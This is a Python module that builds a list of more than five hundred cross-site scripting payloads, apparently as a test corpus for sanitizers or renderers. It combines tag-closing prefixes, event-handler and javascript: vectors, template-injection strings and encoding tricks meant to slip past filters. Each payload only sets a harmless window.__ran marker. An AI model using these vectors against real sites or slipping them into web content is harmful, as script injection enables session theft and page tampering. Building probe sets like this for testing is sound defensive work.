"""Five hundred and more strings that try to run a script in a page: every one sets ``__ran``.

Made from pieces: what closes the place that a text may have got into, what brings code with it,
and how both may be disguised.
"""

from __future__ import annotations

import html
import itertools
from urllib.parse import quote

RUN = "window.__ran=1"
_CLOSE = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</script>",
    "-->",
    "</title>",
    "]]>",
    "`}",
    "</style>",
    '\\">',
)
_CODE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=x onerror={RUN}></object>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    f"<a href=javascript:{RUN} id=kv-click>go</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<table background=javascript:{RUN}><tr><td>x</td></tr></table>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={RUN}>x</b>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<link rel=stylesheet href=data:, onload={RUN}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    f"<base href=javascript:{RUN}//>",
    f"<embed src=javascript:{RUN}>",
    f"<button popovertarget=x onclick={RUN} autofocus onfocus={RUN}>x</button><p popover id=x>",
)
_TEMPLATES = (
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{@html `<img src=x onerror={RUN}>`}}",
    f"`;{RUN};`",
    f"';{RUN};'",
    f'";{RUN};"',
    f"javascript:{RUN}",
    f"' autofocus onfocus={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"[x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"<<SCRIPT>{RUN}//<</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
)
_DISGUISES = (
    lambda text: text,
    lambda text: text.upper().replace("WINDOW.__RAN", "window.__ran").replace("PARENT.", "parent."),
    lambda text: text.replace("<", "<\x00").replace(" ", "\t"),
    lambda text: text.replace(" ", "/").replace("=", " = "),
    html.escape,
    lambda text: html.escape(html.escape(text)),
    quote,
    lambda text: "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in text),
    lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text + "\u2028\ufeff\u202e",
)


def _all() -> list[str]:
    plain = [close + code for close, code in itertools.product(_CLOSE, _CODE)]
    disguised = [
        disguise(code)
        for disguise, code in itertools.product(_DISGUISES[1:], (*_CODE, *_TEMPLATES))
    ]
    return list(dict.fromkeys([*plain, *_TEMPLATES, *disguised]))


ATTACKS = tuple(_all())
